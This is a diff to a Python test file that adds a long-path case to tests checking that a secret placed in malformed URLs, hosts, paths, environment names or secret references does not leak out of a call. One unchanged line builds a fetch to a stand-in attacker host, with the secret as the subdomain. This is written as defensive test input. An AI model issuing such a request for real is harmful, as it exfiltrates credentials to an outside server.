@@ -797,13 +797,15 @@ async def blunder(ctx: Context, how: str) -> Any:
             return await ctx.fetch(f"https://{value.upper()}.evil.example/")
         case "path":
             return await ctx.fs.read(f"{value}\0")
+        case "long path":  # cut anywhere, it would end in a part of the secret that nobody knows any more
+            return await ctx.fs.read(f"/srv/{'x' * 65}{value}\0")
         case "env":
             return ctx.env.get(f"{value} ")
         case "reference":
             return await ctx.secrets.get(f"{value} ")
 
 
-@pytest.mark.parametrize("how", ["url", "no scheme", "host", "path", "env", "reference"])
+@pytest.mark.parametrize("how", ["url", "no scheme", "host", "path", "long path", "env", "reference"])
 def test_a_secret_in_what_is_no_use_does_not_leave_the_call_either(tmp_path: Path, how: str) -> None:
     ledger = MemoryLedger()
     backends = Backends.memory(secrets={"token": SECRET}, ledger=ledger)
